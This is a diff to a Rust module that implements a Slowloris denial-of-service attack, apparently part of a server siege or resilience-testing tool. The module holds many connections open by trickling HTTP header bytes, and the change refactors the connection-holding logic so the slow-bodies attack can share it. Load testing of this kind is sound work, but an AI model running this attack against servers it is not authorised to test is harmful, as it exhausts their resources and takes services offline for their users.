@@ -2,11 +2,14 @@
 //! trickling one byte every few seconds so that a server without a header-read
 //! timeout keeps each one (and its memory and file descriptor) forever.
 
+use std::future::Future;
+use std::pin::Pin;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::sync::Arc;
 use std::time::Duration;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 use tokio::time::Instant;
 
@@ -53,17 +56,28 @@ pub fn spawn(
             start + Duration::from_millis(RAMP_MS * slot as u64 / connections.max(1) as u64);
         tasks.spawn(async move {
             tokio::time::sleep_until(opens_at).await;
-            hold_slot(&target, slot, deadline, trickle, &stats).await;
+            let host = target.host.clone();
+            hold_slot(&target, slot, deadline, &stats, |stream| {
+                Box::pin(hold(stream, host.clone(), deadline, trickle))
+            })
+            .await;
         });
     }
 }
 
-async fn hold_slot(
+/// One connection being held: resolves to true if it was still ours at the deadline.
+pub(super) type Holding<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;
+
+/// Holds one slot until `deadline`: connects from the slot's attacker address and
+/// lets `hold` keep the connection; when the server cuts it early, reconnects
+/// (at most `RECONNECTS_PER_SLOT_MAX` times). `hold` returns true if the
+/// connection was still ours at the deadline. Shared with the slow-bodies attack.
+pub(super) async fn hold_slot(
     target: &Target,
     slot: usize,
     deadline: Instant,
-    trickle: Duration,
     stats: &Stats,
+    hold: impl for<'a> Fn(&'a mut TcpStream) -> Holding<'a>,
 ) {
     let source = attacker_source(target, SLOWLORIS_REGION, slot);
     let mut reconnects = 0;
@@ -82,7 +96,7 @@ async fn hold_slot(
         };
         let open = stats.open.fetch_add(1, Ordering::Relaxed) + 1;
         stats.open_max.fetch_max(open, Ordering::Relaxed);
-        let held = hold(conn.stream(), &target.host, deadline, trickle).await;
+        let held = hold(conn.stream()).await;
         stats.open.fetch_sub(1, Ordering::Relaxed);
         if held {
             stats.held_to_end.fetch_add(1, Ordering::Relaxed);
@@ -95,12 +109,7 @@ async fn hold_slot(
 }
 
 /// True if the connection was still ours at the deadline.
-async fn hold(
-    stream: &mut tokio::net::TcpStream,
-    host: &str,
-    deadline: Instant,
-    trickle: Duration,
-) -> bool {
+async fn hold(stream: &mut TcpStream, host: String, deadline: Instant, trickle: Duration) -> bool {
     let start = format!("GET /api/v1/timelines/public HTTP/1.1\r\nHost: {host}\r\nUser-Agent: holdfast-siege-slowloris\r\n");
     if stream.write_all(start.as_bytes()).await.is_err() {
         return false;
